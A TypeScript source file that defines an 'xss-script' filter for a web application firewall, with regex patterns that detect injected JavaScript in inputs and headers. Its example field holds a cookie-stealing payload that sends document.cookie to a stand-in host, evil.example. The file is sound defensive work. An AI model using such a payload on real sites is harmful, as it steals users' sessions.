import { oneOf, pattern, type Filter } from "../filter.ts";
import { INPUT_AND_HEADERS } from "../places.ts";

const globals = oneOf("document window self top parent frames globalthis this opener");
/** With a name alone something is said already: they are read or written. */
const members = oneOf(`cookie domain location write writeln createelement documentelement referrer documenturi body
  localstorage sessionstorage alert prompt confirm eval constructor document window globaleval \\$ jquery innerhtml outerhtml
  textcontent import settimeout setinterval name implementation defaultview postmessage parentnode x24
  fromcharcode function atob btoa fetch execscript execcommand charset characterset baseuri`);
const methods = oneOf(`queryselector queryselectorall getelementbyid getelementsbytagname getelementsbyclassname open
  appendchild url`);
const calls = oneOf(
  "alert confirm prompt eval atob btoa settimeout setinterval fetch execscript msgbox importscripts unescape decodeuricomponent requestanimationframe",
);

export const xssScript: Filter = {
  id: 100_304,
  name: "xss-script",
  message: "A value holds JavaScript that acts on a page",
  attackClass: "cross-site-scripting",
  score: 5,
  catches:
    "Script without markup, for values that land within a script or a handler: access to cookies and the document, alert() and its kin, calls without parentheses, characters built from numbers, code made of brackets only.",
  letsPass: "The same within sentences or code of several lines; words with (s) behind them.",
  example: "';document.location='//evil.example/'+document.cookie;//",
  places: INPUT_AND_HEADERS,
  checks: [
    pattern("script", `(?:^|[^\\w.-])${globals}(?:\\?\\.|\\.)${members}(?:$|[^\\w-])`),
    pattern("script", `(?:^|[^\\w.-])${globals}(?:\\?\\.|\\.)${methods}\\s*[(\\[=]`),
    pattern("script", `(?:^|[^\\w.])${calls}\\s*(?:\\?\\.)?\\((?:\\s*\\)|\\s*[\\d'"\`/+!\\[(~-]|\\s*\\w+\\s*[.(,+])`),
    pattern(
      "plain",
      `(?:^|[^\\w])${calls}\\s*\`[^\`]*\`|\\b(?:settimeout|setinterval|constructor|function)\\s*\`|\\{\\s*\\w+\\s*:\\s*${calls}\\s*\\}`,
    ),
    pattern(
      "script",
      `string\\.fromcharcode|\\.fromcodepoint\\s*\\(|\\bnew\\s+(?:function|activexobject|xmlhttprequest|image)\\s*\\(|\\bconstructor\\s*[.(\\[]\\s*["'(]?\\s*constructor\\b|\\.constructor\\s*\\(\\s*["'\`]`,
    ),
    pattern(
      "script",
      `\\.(?:innerhtml|outerhtml|srcdoc|onerror|onload|textcontent)\\s*=[^=]|\\blocation(?:\\.(?:href|hash|search|replace|assign))?\\s*=\\s*["'\`j/]|\\blocation\\.(?:replace|assign)\\s*\\(|\\b(?:throw|onerror)\\s*=?\\s*(?:onerror\\s*=\\s*)?(?:alert|eval|prompt|confirm)\\b`,
    ),
    pattern(
      "plain",
      `\\[\\s*\\]\\s*\\)?\\s*\\[\\s*[+!(\\[]|\\(\\s*!\\s*\\[\\s*\\]\\s*\\+|\\+\\s*!\\s*!\\s*\\[|\\$\\s*=\\s*~\\s*\\[\\s*\\]|[\\[\\]()!+{}]{30}`,
    ),
    pattern(
      "script",
      `\\bimport\\s*\\(\\s*["'\`]|\\bimport\\s*[{*][^;"']*from\\s*["']|\\$\\.(?:getscript|globaleval|get|post|ajax)\\s*\\(|\\bimport\\s+["'][^"']+["']`,
    ),
    pattern(
      "script",
      `(?:^|[^\\w.])(?:self|window|top|parent|frames|globalthis|this)\\s*\\[\\s*(?:["'\`/(]|\\w+\\s*\\()`,
    ),
    pattern(
      "script",
      `["']\\s*[;+)\\]}-]+\\s*(?:alert|eval|prompt|confirm|fetch|document|window|location|throw|import|new\\s+image|function)\\b\\s*[.(\`=\\[{]`,
    ),
    pattern(
      "plain",
      `\\(\\s*(?:alert|confirm|prompt|eval)\\s*\\)\\s*\\(|\\b(?:alert|confirm|prompt|eval)\\s*\\.\\s*(?:call|apply|bind)\\b|\\b(?:map|find|filter|foreach|every|some|sort|reduce)\\s*\\(\\s*(?:alert|confirm|prompt|eval)\\s*\\)|\\b(?:valueof|tostring|symbol\\.\\w+)\\s*[:=]\\s*(?:alert|prompt|confirm|eval)\\b`,
    ),
    pattern("script", `-->.*<!--\\s*#|^\\s*@import\\s+["'u]|<\\s*style[^>]*>\\s*@import`),
    pattern(
      "plain",
      `\\.\\s*(?:/\\*[^*]*\\*/\\s*)*(?:call|apply|bind|sort|map|find|replace|match|filter)\\s*(?:\\.\\s*(?:call|apply|bind)\\s*)?\`|\\[\\s*\\]\\s*\\.\\s*\\w+\\s*\\.\\s*(?:call|apply|constructor)\\b|\\bvalueof\\s*=|\\breflect\\.(?:apply|construct|get|set|ownkeys)\\b`,
    ),
  ],
};
